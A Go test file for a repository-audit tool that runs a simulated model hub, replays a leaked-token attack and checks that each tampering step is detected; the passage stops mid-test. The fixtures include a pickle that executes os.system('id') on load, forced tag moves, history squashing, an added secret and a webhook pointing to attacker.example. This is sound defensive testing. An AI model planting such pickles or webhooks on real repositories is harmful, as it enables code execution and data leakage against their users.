package audit

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hfwarden/hfwarden/internal/artifact"
	"github.com/hfwarden/hfwarden/internal/hub"
	"github.com/hfwarden/hfwarden/internal/hubsim"
	"github.com/hfwarden/hfwarden/internal/pin"
)

// fakeToken builds a token-shaped string at run time, so that the
// repository's own secret scan does not trip on the tests.
func fakeToken(seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 7))
	var b strings.Builder
	b.WriteString("hf_")
	for range 34 {
		b.WriteByte(byte('a' + r.IntN(26)))
	}
	return b.String()
}

// osSystemPickle is a protocol-2 pickle that calls os.system("id") when
// loaded.
func osSystemPickle() []byte {
	return []byte("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
}

// env is a simulated Hub with one user, alice, who holds a write token and
// owns a model, a dataset, a Space and a model nobody touches.
type env struct {
	t      *testing.T
	url    string
	c      *hub.Client
	token  string
	repos  []Repo
	before time.Time
}

func newEnv(t *testing.T) *env {
	t.Helper()
	tok := fakeToken(1)
	old := time.Date(2026, 1, 10, 9, 0, 0, 0, time.UTC)
	// The window opens now; what the scenario dates later is in it.
	before := time.Now().UTC().Add(-time.Second)
	soon := before.Add(500 * time.Millisecond)
	text := func(s string) *hubsim.File { return &hubsim.File{Text: s} }
	sc := &hubsim.Scenario{
		Users:  []hubsim.User{{Name: "alice"}, {Name: "mallory"}},
		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write", DisplayName: "ci"}},
		Repos: []hubsim.Repo{
			{ID: "alice/model", CreatedAt: old, Commits: []hubsim.Commit{
				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": text("# model\n"), "pytorch_model.bin": {Base64: "gAJ9cQAu"}, "old.safetensors": {Size: 64}}},
				{Title: "Add config", Date: old.Add(time.Hour), Files: map[string]*hubsim.File{"config.json": text("{}\n")}},
			}, Tags: map[string]string{"v1": "main"}, Discussions: []hubsim.Discussion{
				{Title: "Old question", Author: "mallory", CreatedAt: old},
				{Title: "Please merge", Author: "alice", IsPullRequest: true, CreatedAt: soon},
			}},
			{ID: "alice/data", Type: "dataset", CreatedAt: old, Commits: []hubsim.Commit{
				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": text("# data\n")}},
				{Title: "Add rows", Date: old.Add(time.Hour), Files: map[string]*hubsim.File{"train.csv": text("a,b\n1,2\n")}},
			}},
			{ID: "alice/space", Type: "space", CreatedAt: old, Commits: []hubsim.Commit{
				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"app.py": text("print('hi')\n")}},
				{Title: "Tweak", Author: "mallory", Date: soon, Files: map[string]*hubsim.File{"app.py": text("print('bye')\n")}},
			}, Secrets: []hubsim.SpaceSetting{{Key: "OLD_SECRET", Value: "x", UpdatedAt: old}}},
			{ID: "alice/untouched", CreatedAt: old, Commits: []hubsim.Commit{
				{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"model.safetensors": {Size: 64}, "README.md": text("# quiet\n")}},
			}, Tags: map[string]string{"v1": "main"}},
		},
	}
	srv := hubsim.New(sc, hubsim.Options{RateLimit: -1})
	url, stop, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
	if err != nil {
		t.Fatal(err)
	}
	return &env{t: t, url: url, c: c, token: tok, before: before, repos: []Repo{
		{hub.RepoModel, "alice/model"}, {hub.RepoDataset, "alice/data"}, {hub.RepoSpace, "alice/space"}, {hub.RepoModel, "alice/untouched"},
	}}
}

// call makes a raw API request as the attacker, for the writes the client
// has no method for.
func (e *env) call(method, path string, body any) {
	e.t.Helper()
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, e.url+path, rd)
	if err != nil {
		e.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+e.token)
	req.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer func() { _ = res.Body.Close() }() // a response read: closing it loses nothing
	if res.StatusCode/100 != 2 {
		msg, _ := io.ReadAll(res.Body)
		e.t.Fatalf("%s %s: %s %s", method, path, res.Status, msg)
	}
}

func (e *env) pins(ctx context.Context) []pin.Manifest {
	e.t.Helper()
	var out []pin.Manifest
	for _, r := range e.repos {
		m, err := pin.Snapshot(ctx, e.c, e.token, r.Type, r.ID, "main")
		if err != nil {
			e.t.Fatal(err)
		}
		out = append(out, *m)
	}
	return out
}

// attack plays the attacker with the leaked write token.
func (e *env) attack(ctx context.Context) {
	e.t.Helper()
	// The title carries the token: findings must not.
	if _, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/model", "main", "Update weights "+e.token,
		map[string][]byte{"pytorch_model.bin": osSystemPickle()}, []string{"old.safetensors"}); err != nil {
		e.t.Fatal(err)
	}
	e.call(http.MethodDelete, "/api/models/alice/model/tag/v1", nil)
	e.call(http.MethodPost, "/api/models/alice/model/tag/main", map[string]string{"tag": "v1"})
	e.call(http.MethodPost, "/api/datasets/alice/data/super-squash/main", map[string]string{})
	e.call(http.MethodPost, "/api/spaces/alice/space/secrets", map[string]string{"key": "EXFIL_KEY", "value": "attacker"})
	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{
		"url": "https://attacker.example/hook/abc?k=1", "watched": []map[string]string{{"type": "space", "name": "alice/space"}}, "domains": []string{"repo"}})
}

// kinds lists the findings' kinds per repository.
func kinds(r *Report) map[string][]string {
	m := map[string][]string{}
	for _, f := range r.Findings {
		if !slices.Contains(m[f.Repo], f.Kind) {
			m[f.Repo] = append(m[f.Repo], f.Kind)
		}
	}
	return m
}

func find(r *Report, repo, kind string) *Finding {
	for i, f := range r.Findings {
		if f.Repo == repo && f.Kind == kind {
			return &r.Findings[i]
		}
	}
	return nil
}

func TestRunWithPins(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	pins := e.pins(ctx)
	e.attack(ctx)
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Pins: pins})
	if err != nil {
		t.Fatal(err)
	}
	got := kinds(r)
	t.Logf("findings: %v; warnings %v", got, r.Warnings)
	want := map[string][]string{
		"model/alice/model":  {KindCommitInWindow, KindIntegrity, KindRefChanged},
		"dataset/alice/data": {KindCommitInWindow, KindHistoryRewritten},
		"space/alice/space":  {KindSecretAdded, KindCommitInWindow},
	}
	for repo, ks := range want {
		for _, k := range ks {
			if !slices.Contains(got[repo], k) {
				t.Errorf("%s: no %s finding (have %v)", repo, k, got[repo])
			}
		}
	}
	// The real inspector (artifact.Inspect) reads the downloaded pickle.
	if f := find(r, "model/alice/model", artifact.KindUnsafePickle); f == nil || Rank(f.Severity) < Rank(High) ||
		!strings.Contains(f.Evidence, "system") || !strings.HasPrefix(f.Path, "pytorch_model.bin") {
		t.Errorf("unsafe-pickle = %+v", f)
	}
	if f := find(r, "space/alice/space", KindWebhook); f == nil || f.Severity != Medium || strings.Contains(f.Evidence, "abc") {
		t.Errorf("webhook finding = %+v, want medium without the URL's path", f)
	}
	var integrity []string
	for _, f := range r.Findings {
		if f.Kind == KindIntegrity {
			integrity = append(integrity, f.Repo+" "+f.Path)
		}
	}
	if want := []string{"model/alice/model old.safetensors", "model/alice/model pytorch_model.bin"}; !slices.Equal(integrity, want) {
		t.Errorf("integrity findings %q, want %q", integrity, want)
	}
	if f := find(r, "model/alice/model", KindCommitInWindow); f == nil || f.Author != "alice" || f.Severity != Medium || !strings.Contains(f.Evidence, "Update weights") {
		t.Errorf("commit finding = %+v", f)
	}
	if f := find(r, "space/alice/space", KindSecretAdded); f == nil || f.Path != "EXFIL_KEY" || f.Severity != High {
		t.Errorf("secret finding = %+v", f)
	}
	if f := find(r, "space/alice/space", KindCommitInWindow); f == nil || f.Severity != High || !strings.Contains(f.Evidence, "unexpected author mallory") {
		t.Errorf("commit by an unexpected author = %+v", f)
	}
	if f := find(r, "model/alice/model", KindLFSDeleted); f == nil || f.Path != "old.safetensors" {
		t.Errorf("lfs-deleted = %+v", f)
	}
	if f := find(r, "model/alice/model", KindPullRequest); f == nil || f.Ref != "#2" || f.Author != "alice" {
		t.Errorf("pull request by the owner = %+v", f)
	}
	for _, f := range r.Findings {
		if strings.Contains(f.Evidence, e.token) {
			t.Errorf("raw token in evidence: %s", f.Kind)
		}
		if f.Kind == KindDiscussion {
			t.Errorf("discussion by someone else, before the window, flagged: %+v", f)
		}
	}
	if len(got["model/alice/untouched"]) != 0 {
		t.Errorf("untouched repository has findings: %+v", got["model/alice/untouched"])
	}
	if len(r.Unpinned) != 0 || len(r.Checked) != 4 {
		t.Errorf("unpinned %v, checked %v", r.Unpinned, r.Checked)
	}
	if r.AtLeast(High) == 0 {
		t.Error("no finding of severity high or worse")
	}
	// The old secret, set before the window, is not flagged.
	for _, f := range r.Findings {
		if f.Path == "OLD_SECRET" {
			t.Errorf("secret from before the window flagged: %+v", f)
		}
	}
}

func TestRunWithSnapshot(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	base, err := TakeBaseline(ctx, e.c, e.token, e.repos)
	if err != nil {
		t.Fatal(err)
	}
	e.attack(ctx)
	// The snapshot was taken when the exposure started.
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: base.At, Owner: "alice", Repos: e.repos, Baseline: base})
	if err != nil {
		t.Fatal(err)
	}
	got := kinds(r)
	t.Logf("findings: %v; warnings %v", got, r.Warnings)
	if f := find(r, "model/alice/model", KindRefChanged); f == nil {
		t.Error("no ref-changed for the model")
	}
	var tagMoved bool
	for _, f := range r.Findings {
		if f.Kind == KindRefChanged && f.Ref == "refs/tags/v1" && f.Repo == "model/alice/model" && f.Severity == High && strings.Contains(f.Evidence, "moved") {
			tagMoved = true
		}
	}
	if !tagMoved {
		t.Error("moved tag v1 not flagged high")
	}
	if f := find(r, "dataset/alice/data", KindHistoryRewritten); f == nil || f.Severity != Critical || !strings.Contains(f.Evidence, "2 of 2") {
		t.Errorf("history-rewritten = %+v", f)
	}
	if f := find(r, "space/alice/space", KindWebhook); f == nil || f.Severity != High {
		t.Errorf("webhook unknown to the snapshot = %+v, want high", f)
	}
	if find(r, "model/alice/model", KindIntegrity) != nil {
		t.Error("integrity-mismatch without a pin")
	}
	if len(got["model/alice/untouched"]) != 0 {
		t.Errorf("untouched repository has findings: %+v", got["model/alice/untouched"])
	}
	if len(r.Unpinned) != 4 {
		t.Errorf("unpinned = %v, want all four", r.Unpinned)
	}
	// The report's own snapshot was taken after the leak: a second audit
	// of the same window must not take it as the baseline (it holds the
	// attacker's changes), and finds the same changes again.
	again, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: base.At, Owner: "alice", Repos: e.repos, Baseline: r.Snapshot,
		Inspect: func(context.Context, string, io.ReaderAt, int64) ([]artifact.Finding, error) { return nil, nil }})
	if err != nil {
		t.Fatal(err)
	}
	if f := find(again, "dataset/alice/data", KindHistoryRewritten); f == nil || Rank(f.Severity) < Rank(High) {
		t.Errorf("second audit lost the rewritten history: %+v", f)
	}
	var tagAgain bool
	for _, f := range again.Findings {
		if f.Kind == KindRefChanged && f.Ref == "refs/tags/v1" && f.Severity == High {
			tagAgain = true
		}
	}
	if !tagAgain {
		t.Error("second audit lost the moved tag")
	}
	if find(again, "model/alice/model", KindLFSDeleted) == nil {
		t.Error("second audit lost the deleted LFS file")
	}
}

func TestRunWithoutBaseline(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	e.attack(ctx)
	var inspected []string
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos,
		Inspect: func(_ context.Context, name string, ra io.ReaderAt, size int64) ([]artifact.Finding, error) {
			// Downloads go to a temporary file, never whole into memory.
			if _, ok := ra.(*os.File); !ok {
				t.Errorf("%s handed to the inspector as %T, want a temporary *os.File", name, ra)
			}
			b := make([]byte, size)
			if _, err := ra.ReadAt(b, 0); err != nil && err != io.EOF {
				return nil, err
			}
			inspected = append(inspected, name)
			if bytes.Contains(b, []byte("posix\nsystem")) {
				return []artifact.Finding{{Kind: artifact.KindUnsafePickle, Severity: artifact.SeverityCritical, Path: name, Detail: "imports posix.system"}}, nil
			}
			return nil, nil
		}})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(inspected, []string{"pytorch_model.bin"}) {
		t.Errorf("inspected %v, want only the changed pytorch_model.bin", inspected)
	}
	if f := find(r, "model/alice/model", artifact.KindUnsafePickle); f == nil || f.Severity != Critical || f.Commit == "" {
		t.Errorf("unsafe-pickle = %+v", f)
	}
	// A super-squash leaves one commit titled so: seen without a baseline.
	if f := find(r, "dataset/alice/data", KindHistoryRewritten); f == nil {
		t.Error("super-squash not seen without a baseline")
	}
	if got := kinds(r)["model/alice/untouched"]; len(got) != 0 {
		t.Errorf("untouched repository has findings: %v", got)
	}
	if r.Worst() != Critical {
		t.Errorf("worst = %s", r.Worst())
	}

	// A window that closed before the attack inspects nothing and flags
	// nothing but the standing webhook.
	inspected = nil
	early := time.Date(2026, 1, 10, 12, 0, 0, 0, time.UTC) // after the scenario's history
	r, err = Run(ctx, Options{Client: e.c, Token: e.token, Since: early, Until: early.Add(24 * time.Hour), Owner: "alice", Repos: e.repos,
		Inspect: func(_ context.Context, name string, _ io.ReaderAt, _ int64) ([]artifact.Finding, error) {
			inspected = append(inspected, name)
			return nil, nil
		}})
	if err != nil {
		t.Fatal(err)
	}
	if len(inspected) != 0 {
		t.Errorf("inspected %v for a window before the attack", inspected)
	}
	for _, f := range r.Findings {
		if f.Kind != KindWebhook {
			t.Errorf("early window: unexpected %+v", f)
		}
	}
}

func TestRunErrors(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	if _, err := Run(ctx, Options{Client: e.c, Token: e.token}); err == nil {
		t.Error("no error without since")
	}
	now := time.Now()
	if _, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: now, Until: now.Add(-time.Hour)}); err == nil {
		t.Error("no error for a window that ends before it starts")
	}
	// A repository that does not exist is a warning; the others go on.
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: now.Add(-time.Minute), Owner: "alice",
		Repos: []Repo{{hub.RepoModel, "alice/gone"}, {hub.RepoModel, "alice/untouched"}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Warnings) != 1 || !strings.Contains(r.Warnings[0], "alice/gone: not found now") || !slices.Equal(r.Checked, []string{"model/alice/untouched"}) {
		t.Errorf("warnings %v, checked %v", r.Warnings, r.Checked)
	}
	if len(r.Findings) != 0 {
		t.Errorf("findings for an untouched repository: %+v", r.Findings)
	}
}

// refFinding is the finding of kind on ref in repo, or nil.
func refFinding(r *Report, repo, kind, ref string) *Finding {
	for i, f := range r.Findings {
		if f.Repo == repo && f.Kind == kind && f.Ref == ref {
			return &r.Findings[i]
		}
	}
	return nil
}

// noInspect is an inspector that finds nothing.
func noInspect(context.Context, string, io.ReaderAt, int64) ([]artifact.Finding, error) {
	return nil, nil
}

// A tag moved in the window is high whether the audit has only pins or
// no baseline at all: it points at a commit made in the window.
func TestMovedTagWithoutSnapshot(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	pins := e.pins(ctx)
	e.attack(ctx) // deletes v1 and recreates it at the new head of main
	for _, tc := range []struct {
		name string
		pins []pin.Manifest
	}{{"pins only", pins}, {"no baseline", nil}} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Pins: tc.pins, Inspect: noInspect})
			if err != nil {
				t.Fatal(err)
			}
			if f := refFinding(r, "model/alice/model", KindRefChanged, "refs/tags/v1"); f == nil || f.Severity != High || !strings.Contains(f.Evidence, "in the window") {
				t.Errorf("moved tag = %+v", f)
			}
			if f := refFinding(r, "model/alice/untouched", KindRefChanged, "refs/tags/v1"); f != nil {
				t.Errorf("tag that did not move flagged: %+v", f)
			}
		})
	}
}

// A super-squash whose message says nothing of it, with no baseline: the
// root of main was made in the window of an older repository; the tag
// left on the old history points at a commit no branch holds.
func TestSquashWithCustomMessage(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	e.call(http.MethodPost, "/api/models/alice/model/super-squash/main", map[string]string{"message": "Update README.md"})
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: e.repos, Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	if f := refFinding(r, "model/alice/model", KindHistoryRewritten, "refs/heads/main"); f == nil || f.Severity != High || !strings.Contains(f.Evidence, "Update README.md") {
		t.Errorf("squash = %+v", f)
	}
	if f := refFinding(r, "model/alice/model", KindHistoryRewritten, "refs/tags/v1"); f == nil || !strings.Contains(f.Evidence, "no branch") {
		t.Errorf("orphaned tag = %+v", f)
	}
	if r.AtLeast(High) == 0 {
		t.Error("squash not high")
	}
	if got := kinds(r)["model/alice/untouched"]; len(got) != 0 {
		t.Errorf("untouched repository has findings: %v", got)
	}
}

// A pin of a tag is compared with the tag, not with main: commits on main
// after the tag are no integrity mismatch, a moved tag is.
func TestPinOfATag(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	// v0 marks the first commit; main has one more (config.json).
	hist, _, err := e.c.Commits(ctx, e.token, hub.RepoModel, "alice/model", "main", 0)
	if err != nil || len(hist) != 2 {
		t.Fatalf("history %v %v", hist, err)
	}
	e.call(http.MethodPost, "/api/models/alice/model/tag/"+hist[1].ID, map[string]string{"tag": "v0"})
	m, err := pin.Snapshot(ctx, e.c, e.token, hub.RepoModel, "alice/model", "v0")
	if err != nil {
		t.Fatal(err)
	}
	repos := []Repo{{hub.RepoModel, "alice/model"}}
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: repos, Pins: []pin.Manifest{*m}, Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range r.Findings {
		if f.Kind == KindIntegrity || f.Kind == KindRefChanged || f.Kind == KindHistoryRewritten {
			t.Errorf("untouched tag pin: %+v", f)
		}
	}
	// The attacker moves v0 to a commit carrying a pickle.
	res, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/model", "main", "tweak", map[string][]byte{"pytorch_model.bin": osSystemPickle()}, nil)
	if err != nil {
		t.Fatal(err)
	}
	e.call(http.MethodDelete, "/api/models/alice/model/tag/v0", nil)
	e.call(http.MethodPost, "/api/models/alice/model/tag/"+res.CommitOID, map[string]string{"tag": "v0"})
	r, err = Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: repos, Pins: []pin.Manifest{*m}})
	if err != nil {
		t.Fatal(err)
	}
	if f := refFinding(r, "model/alice/model", KindRefChanged, "refs/tags/v0"); f == nil || f.Severity != High || !strings.Contains(f.Evidence, "moved") {
		t.Errorf("moved pinned tag = %+v", f)
	}
	var integrity []string
	for _, f := range r.Findings {
		if f.Kind == KindIntegrity {
			integrity = append(integrity, f.Path)
		}
		if f.Ref == "refs/heads/v0" {
			t.Errorf("tag taken for a branch: %+v", f)
		}
	}
	if want := []string{"config.json", "pytorch_model.bin"}; !slices.Equal(integrity, want) {
		t.Errorf("integrity findings %q, want %q", integrity, want)
	}
}

// A payload on a new branch, with no baseline, is inspected and found;
// a commit on main and that branch is labelled main.
func TestPayloadOnAnotherBranch(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	shared, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/untouched", "main", "Add notes", map[string][]byte{"notes.txt": []byte("x\n")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	e.call(http.MethodPost, "/api/models/alice/untouched/branch/evil", map[string]any{})
	if _, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/untouched", "evil", "Add weights", map[string][]byte{"extra.pkl": osSystemPickle()}, nil); err != nil {
		t.Fatal(err)
	}
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: []Repo{{hub.RepoModel, "alice/untouched"}}})
	if err != nil {
		t.Fatal(err)
	}
	f := find(r, "model/alice/untouched", artifact.KindUnsafePickle)
	if f == nil || f.Ref != "refs/heads/evil" || f.Path != "extra.pkl" || Rank(f.Severity) < Rank(High) {
		t.Fatalf("pickle on branch evil = %+v (findings %+v)", f, r.Findings)
	}
	for _, f := range r.Findings {
		if f.Kind == KindCommitInWindow && f.Commit == shared.CommitOID && (f.Ref != "main" || !strings.Contains(f.Evidence, "on main, evil")) {
			t.Errorf("commit on main and evil labelled %q: %s", f.Ref, f.Evidence)
		}
	}
}

// A webhook watching two entities gives one finding, naming both; an
// earlier audit's per-entity findings of it are not kept beside it.
func TestWebhookOneFindingPerID(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{"url": "https://hooks.example/x",
		"watched": []map[string]string{{"type": "model", "name": "alice/model"}, {"type": "user", "name": "alice"}}, "domains": []string{"repo"}})
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	var hooks []Finding
	for _, f := range r.Findings {
		if f.Kind == KindWebhook {
			hooks = append(hooks, f)
		}
	}
	if len(hooks) != 1 || hooks[0].Repo != "model/alice/model, alice" || hooks[0].Ref == "" {
		t.Fatalf("webhook findings %+v, want one for both entities", hooks)
	}
	prev := &Report{Findings: []Finding{
		{Kind: KindWebhook, Repo: "alice", Ref: hooks[0].Ref, Severity: Medium},
		{Kind: KindWebhook, Repo: "model/alice/model", Ref: hooks[0].Ref, Severity: Medium},
		{Kind: KindWebhook, Repo: "alice", Ref: "gone-hook", Severity: Medium},
	}}
	r.KeepEarlier(prev)
	var refs []string
	for _, f := range r.Findings {
		if f.Kind == KindWebhook {
			refs = append(refs, f.Ref)
		}
	}
	slices.Sort(refs)
	if want := []string{hooks[0].Ref, "gone-hook"}; !slices.Equal(refs, want) {
		t.Errorf("after KeepEarlier: webhook findings %q, want %q", refs, want)
	}
}

// An audit whose repositories all fail keeps the earlier snapshot, and a
// later audit's findings keep the earlier ones.
func TestFailedAuditKeepsBaseline(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	base, err := TakeBaseline(ctx, e.c, e.token, e.repos)
	if err != nil {
		t.Fatal(err)
	}
	other, err := hub.New(hub.Options{Endpoint: e.url, RatePerSecond: -1, MaxRetries: -1})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Run(ctx, Options{Client: other, Token: fakeToken(99), Since: base.At, Repos: e.repos, Baseline: base, Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Checked) != 0 || len(r.Warnings) != len(e.repos)+1 || r.Complete(len(e.repos)) {
		t.Errorf("checked %v, warnings %v", r.Checked, r.Warnings)
	}
	if len(r.Snapshot.Repos) != len(e.repos) || !slices.Equal(r.Snapshot.Webhooks, base.Webhooks) {
		t.Errorf("snapshot not carried forward: %+v", r.Snapshot)
	}
	prev := &Report{Findings: []Finding{{Kind: artifact.KindUnsafePickle, Repo: "model/alice/model", Severity: Critical, Path: "x.pkl"}}}
	r.KeepEarlier(prev)
	r.KeepEarlier(prev)
	if len(r.Findings) != 1 || !r.Findings[0].Earlier || r.Worst() != Critical {
		t.Errorf("kept findings %+v", r.Findings)
	}
}

// simRepos starts a simulated Hub holding repos, owned by alice.
func simRepos(t *testing.T, repos ...hubsim.Repo) (*hub.Client, string) {
	t.Helper()
	tok := fakeToken(3)
	srv := hubsim.New(&hubsim.Scenario{
		Users:  []hubsim.User{{Name: "alice"}},
		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write"}},
		Repos:  repos,
	}, hubsim.Options{RateLimit: -1})
	url, stop, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
	if err != nil {
		t.Fatal(err)
	}
	return c, tok
}

// Commit dates are set by the committer: a payload dated in the future or
// before the window (and before its parent) is still found.
func TestForgedCommitDates(t *testing.T) {
	ctx := context.Background()
	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	since := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	evil := &hubsim.File{Base64: "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="}
	readme := &hubsim.File{Text: "# x\n"}
	c, tok := simRepos(t,
		hubsim.Repo{ID: "alice/future", CreatedAt: old, Commits: []hubsim.Commit{
			{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": readme}},
			{Title: "harmless", Date: time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC), Files: map[string]*hubsim.File{"pytorch_model.bin": evil}},
		}},
		hubsim.Repo{ID: "alice/back", CreatedAt: old, Commits: []hubsim.Commit{
			{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": readme}},
			{Title: "Docs", Date: old.Add(48 * time.Hour), Files: map[string]*hubsim.File{"notes.md": readme}},
			{Title: "harmless", Date: old.Add(24 * time.Hour), Files: map[string]*hubsim.File{"pytorch_model.bin": evil}},
		}},
	)
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: since, Owner: "alice",
		Repos: []Repo{{hub.RepoModel, "alice/future"}, {hub.RepoModel, "alice/back"}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, repo := range []string{"model/alice/future", "model/alice/back"} {
		if f := find(r, repo, KindCommitDateForged); f == nil || f.Severity != High {
			t.Errorf("%s: forged date = %+v (findings %+v)", repo, f, r.Findings)
		}
		if f := find(r, repo, artifact.KindUnsafePickle); f == nil || f.Path != "pytorch_model.bin" {
			t.Errorf("%s: payload = %+v (findings %+v)", repo, f, r.Findings)
		}
		if f := find(r, repo, KindCommitInWindow); f == nil {
			t.Errorf("%s: no commit-in-window finding", repo)
		}
	}
}

// With a baseline, every branch is compared with the commits it knew, not
// by date: a backdated payload on a new branch is found.
func TestBackdatedBranchAgainstBaseline(t *testing.T) {
	ctx := context.Background()
	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	evil := &hubsim.File{Base64: "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="}
	c, tok := simRepos(t, hubsim.Repo{ID: "alice/m", CreatedAt: old, Commits: []hubsim.Commit{
		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": {Text: "# x\n"}}},
		{Title: "harmless", Date: old.Add(time.Hour), Files: map[string]*hubsim.File{"extra.pkl": evil}},
	}, Branches: map[string]string{"evil": "main"}})
	repo := Repo{hub.RepoModel, "alice/m"}
	// The baseline as it was before the attack: main at its first commit,
	// with the same files as now (so that only the branch tells).
	b, err := TakeBaseline(ctx, c, tok, []Repo{repo})
	if err != nil {
		t.Fatal(err)
	}
	s := &b.Repos[0]
	first := s.Commits[len(s.Commits)-1]
	s.Commits = []string{first}
	s.Refs = map[string]string{"refs/heads/main": first}
	since := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	b.At = since.Add(-time.Hour)
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: since, Owner: "alice", Repos: []Repo{repo}, Baseline: b})
	if err != nil {
		t.Fatal(err)
	}
	if f := refFinding(r, "model/alice/m", artifact.KindUnsafePickle, "refs/heads/evil"); f == nil {
		t.Errorf("payload on evil not found (findings %+v)", r.Findings)
	}
	if f := find(r, "model/alice/m", KindCommitInWindow); f == nil || f.Time == nil || !f.Time.Before(since) {
		t.Errorf("backdated commit = %+v", f)
	}
}

// A pin of a commit id: main is compared with it, and the commit must stay
// reachable from some branch or tag.
func TestPinOfACommit(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	hist, _, err := e.c.Commits(ctx, e.token, hub.RepoModel, "alice/model", "main", 0)
	if err != nil {
		t.Fatal(err)
	}
	m, err := pin.Snapshot(ctx, e.c, e.token, hub.RepoModel, "alice/model", hist[0].ID)
	if err != nil || m.Revision != hist[0].ID {
		t.Fatalf("pin %+v, %v", m, err)
	}
	repos := []Repo{{hub.RepoModel, "alice/model"}}
	if _, err := e.c.Commit(ctx, e.token, hub.RepoModel, "alice/model", "main", "tweak", map[string][]byte{"pytorch_model.bin": osSystemPickle()}, nil); err != nil {
		t.Fatal(err)
	}
	r, err := Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: repos, Pins: []pin.Manifest{*m}})
	if err != nil {
		t.Fatal(err)
	}
	if f := find(r, "model/alice/model", KindIntegrity); f == nil || f.Path != "pytorch_model.bin" || f.Ref != "refs/heads/main" {
		t.Errorf("integrity against the pinned commit = %+v (findings %+v)", f, r.Findings)
	}
	if f := find(r, "model/alice/model", KindHistoryRewritten); f != nil {
		t.Errorf("pinned commit still on main, yet %+v", f)
	}
	// The attacker drops the tag holding it and squashes main.
	e.call(http.MethodDelete, "/api/models/alice/model/tag/v1", nil)
	e.call(http.MethodPost, "/api/models/alice/model/super-squash/main", map[string]any{})
	r, err = Run(ctx, Options{Client: e.c, Token: e.token, Since: e.before, Owner: "alice", Repos: repos, Pins: []pin.Manifest{*m}, Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	var rewritten *Finding
	for i, f := range r.Findings {
		if f.Kind == KindHistoryRewritten && f.Commit == hist[0].ID {
			rewritten = &r.Findings[i]
		}
